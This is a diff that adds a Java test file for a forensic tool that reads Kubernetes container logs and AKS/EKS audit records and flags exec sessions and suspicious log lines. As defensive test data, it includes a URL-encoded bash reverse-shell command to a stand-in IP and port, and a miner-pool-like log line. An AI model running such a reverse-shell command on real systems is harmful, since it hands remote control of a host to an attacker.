@@ -1,0 +1,223 @@
+package org.ephemera.analyze.cluster;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.ephemera.analyze.cluster.ShopCluster.A;
+import static org.ephemera.analyze.cluster.ShopCluster.B;
+
+import com.fasterxml.jackson.databind.node.ArrayNode;
+import com.fasterxml.jackson.databind.node.ObjectNode;
+import java.io.ByteArrayOutputStream;
+import java.io.IOException;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Path;
+import java.util.Map;
+import java.util.Optional;
+import java.util.TreeMap;
+import org.ephemera.analyze.Analysis;
+import org.ephemera.analyze.Baseline;
+import org.ephemera.analyze.Triage;
+import org.ephemera.analyze.model.Finding;
+import org.ephemera.analyze.model.Gap;
+import org.ephemera.analyze.read.SealedPackage;
+import org.ephemera.analyze.testing.FixtureAnswer;
+import org.ephemera.analyze.testing.FixtureCalls;
+import org.ephemera.analyze.testing.SealedFixture;
+import org.ephemera.bag.Json;
+import org.ephemera.report.Report;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+
+/** What the logs of a cluster tell: of its API server, of a workspace, of containers. */
+class ClusterLogsTest {
+    private static final String QUIET = "2026-11-26T12:13:00.000000001Z checkout 1.8 listens on 8080\n";
+
+    private static final String SHELL =
+            "command=bash&command=-c&command=bash+-i+%3E%26+%2Fdev%2Ftcp%2F203.0.113.9%2F4444+0%3E%261";
+
+    @TempDir
+    private Path folder;
+
+    private final Map<String, ByteArrayOutputStream> written = new TreeMap<>();
+
+    private Analysis analyzed(SealedFixture fixture) throws Exception {
+        try (SealedPackage sealed = fixture.seal()) {
+            Analysis analysis = Triage.analyze(
+                    sealed,
+                    new Triage.Options(Optional.empty(), Baseline.NONE, true),
+                    name -> written.computeIfAbsent(name, none -> new ByteArrayOutputStream()));
+            Report.write(analysis, name -> written.computeIfAbsent(name, none -> new ByteArrayOutputStream()));
+            return analysis;
+        }
+    }
+
+    private String text(String file) {
+        return written.getOrDefault(file, new ByteArrayOutputStream()).toString(StandardCharsets.UTF_8);
+    }
+
+    /** The kubelet answers 200 with its own words where it has no log. */
+    @Test
+    void wordsOfTheKubeletAreNoLog() throws Exception {
+        SealedFixture fixture = ShopCluster.in(folder);
+        ShopCluster.log(
+                fixture,
+                "kubernetes.log",
+                ShopCluster.container(A, "pod-a", "checkout"),
+                "unable to retrieve container logs for containerd://c1");
+        ShopCluster.log(
+                fixture,
+                "kubernetes.log",
+                ShopCluster.container(B, "pod-b", "checkout"),
+                "2026-11-26T12:13:00.000000001Z unable to retrieve container logs for containerd://c1\n");
+        Analysis analysis = analyzed(fixture);
+        assertThat(analysis.gaps())
+                .filteredOn(gap -> gap.why().contains("the kubelet says there"))
+                .singleElement()
+                .extracting(Gap::what)
+                .isEqualTo("kubernetes.log.1");
+        assertThat(text("logs/index.csv")).contains("shop/" + B + "/checkout,1").doesNotContain(A);
+    }
+
+    /** At the end of a log it may say anything; an agent that puts no time before any line is taken at its word. */
+    @Test
+    void whatEndsALogWithoutATimeIsNotTheContainers() throws Exception {
+        String words = "failed to do what no version of it has said so far";
+        SealedFixture fixture = ShopCluster.in(folder);
+        ShopCluster.log(fixture, "kubernetes.log", ShopCluster.container(A, "pod-a", "checkout"), QUIET + words);
+        ShopCluster.log(fixture, "kubernetes.log", ShopCluster.container(A, "pod-a", "cut"), QUIET + "2026-11-26T12:1");
+        ShopCluster.log(fixture, "kubernetes.log", ShopCluster.container(B, "pod-b", "plain"), "one\n" + words + "\n");
+        Analysis analysis = analyzed(fixture);
+        assertThat(analysis.gaps())
+                .filteredOn(gap -> gap.why().contains("the kubelet says there"))
+                .extracting(Gap::what)
+                .containsExactly("kubernetes.log.1");
+        assertThat(text("logs/index.csv"))
+                .contains("shop/" + A + "/checkout,1", "shop/" + A + "/cut,2", "shop/" + B + "/plain,2");
+    }
+
+    /** A row has the event in columns or as a text; the API server tells of each stage of a request. */
+    @Test
+    void rowsOfAWorkspaceAreCalls() throws Exception {
+        ObjectNode text = ShopCluster.exec("a-2", B, "command=sh&tty=true");
+        ObjectNode parts = ShopCluster.exec("a-1", A, SHELL);
+        Analysis analysis = analyzed(rows(
+                new String[] {
+                    "TableName", "log_s", "Verb", "AuditId", "RequestUri", "RequestReceivedTime", "User", "ObjectRef"
+                },
+                new String[] {"AzureDiagnostics", FixtureCalls.text(text), "", "", "", "", "", ""},
+                new String[] {"AzureDiagnostics", "cut off {", "", "", "", "", "", ""},
+                new String[] {
+                    "AKSAudit",
+                    "",
+                    "get",
+                    "a-1",
+                    parts.path("requestURI").asText(),
+                    "2026-11-26T11:53:13.5Z",
+                    FixtureCalls.text(parts.path("user")),
+                    FixtureCalls.text(parts.path("objectRef"))
+                }));
+        assertThat(ClusterPackageTest.found(analysis, "EXE-001"))
+                .extracting(Finding::subject)
+                .containsExactlyInAnyOrder("shop/" + A + "/checkout", "shop/" + B + "/checkout");
+        assertThat(ClusterPackageTest.found(analysis, "EXE-001"))
+                .extracting(Finding::because)
+                .anyMatch(why -> why.contains("/dev/tcp/"));
+        assertThat(analysis.gaps())
+                .extracting(Gap::why)
+                .anyMatch(why -> why.contains("there is no call to read at /tables/0/rows/1"));
+    }
+
+    /** Where only changes were sent, an exec over WebSocket was not among them. */
+    @Test
+    void whatHasNoReadsHidesAnExec() throws Exception {
+        Analysis analysis = analyzed(rows(
+                new String[] {"TableName", "Verb", "AuditId", "RequestUri", "RequestReceivedTime", "ObjectRef"},
+                new String[] {
+                    "AKSAuditAdmin",
+                    "patch",
+                    "a-1",
+                    "/apis/apps/v1/namespaces/shop/deployments/checkout",
+                    "2026-11-26T11:53:13.5Z",
+                    "{\"resource\":\"deployments\",\"namespace\":\"shop\",\"name\":\"checkout\"}"
+                }));
+        assertThat(ClusterPackageTest.found(analysis, "EXE-001")).isEmpty();
+        assertThat(analysis.gaps())
+                .anyMatch(gap -> gap.what().equals("EXE-001") && gap.why().contains("kube-audit-admin"));
+        assertThat(text("report.html")).contains("No sign in part of the records");
+    }
+
+    private SealedFixture rows(String[] columns, String[]... rows) {
+        ObjectNode body = Json.object();
+        ObjectNode table = body.withArray("tables").addObject().put("name", "PrimaryResult");
+        for (String column : columns) {
+            table.withArray("columns").addObject().put("name", column).put("type", "string");
+        }
+        for (String[] row : rows) {
+            var cells = table.withArray("rows").addArray();
+            for (String cell : row) {
+                cells.add(cell);
+            }
+        }
+        return ShopCluster.in(folder)
+                .item(
+                        "azure.aks.audit",
+                        Map.of("cluster", "shop"),
+                        FixtureAnswer.json("operationalinsights:Query_Execute", FixtureCalls.text(body)));
+    }
+
+    /** An agent on the nodes wraps each line; a table of a workspace says whose it is. */
+    @Test
+    void linesThatWereKeptElsewhereAreReadToo() throws Exception {
+        ObjectNode line =
+                Json.object().put("log", "net      use pool pool.example:3333").put("stream", "stdout");
+        line.putObject("kubernetes")
+                .put("pod_name", B)
+                .put("namespace_name", "shop")
+                .put("container_name", "checkout");
+        ObjectNode page = Json.object();
+        page.withArray("events")
+                .addObject()
+                .put("timestamp", 1_795_000_000_000L)
+                .put("message", FixtureCalls.text(line));
+        Analysis analysis = analyzed(ShopCluster.in(folder)
+                .item(
+                        "aws.eks.insights-logs",
+                        Map.of("cluster", "shop"),
+                        FixtureAnswer.json("logs:FilterLogEvents", FixtureCalls.text(page))));
+        assertThat(ClusterPackageTest.found(analysis, "LOG-001"))
+                .extracting(Finding::subject)
+                .containsExactly("shop/" + B + "/checkout (Container Insights)");
+    }
+
+    /** A log group of the class Infrequent Access is read by a query alone, whose rows are read as its events are. */
+    @Test
+    void rowsOfLogsInsightsAreReadAsEventsAre() throws Exception {
+        ObjectNode line = Json.object().put("log", "net      use pool pool.example:3333");
+        line.putObject("kubernetes")
+                .put("pod_name", B)
+                .put("namespace_name", "shop")
+                .put("container_name", "checkout");
+        Analysis analysis = analyzed(ShopCluster.in(folder)
+                .item(
+                        "aws.eks.insights-logs",
+                        Map.of("cluster", "shop"),
+                        FixtureAnswer.json("logs:GetQueryResults", rows(FixtureCalls.text(line))))
+                .item(
+                        "aws.eks.audit",
+                        Map.of("cluster", "shop"),
+                        FixtureAnswer.json(
+                                "logs:GetQueryResults", rows(FixtureCalls.text(ShopCluster.exec("a-1", A, SHELL))))));
+        assertThat(ClusterPackageTest.found(analysis, "LOG-001"))
+                .extracting(Finding::subject)
+                .containsExactly("shop/" + B + "/checkout (Container Insights)");
+        assertThat(ClusterPackageTest.found(analysis, "EXE-001")).isNotEmpty();
+    }
+
+    private static String rows(String message) throws IOException {
+        ObjectNode page = Json.object().put("status", "Complete");
+        ArrayNode row = page.putArray("results").addArray();
+        row.addObject().put("field", "@timestamp").put("value", "2026-11-25 12:00:00.000");
+        row.addObject().put("field", "@message").put("value", message);
+        row.addObject().put("field", "@ptr").put("value", "p");
+        return FixtureCalls.text(page);
+    }
+}
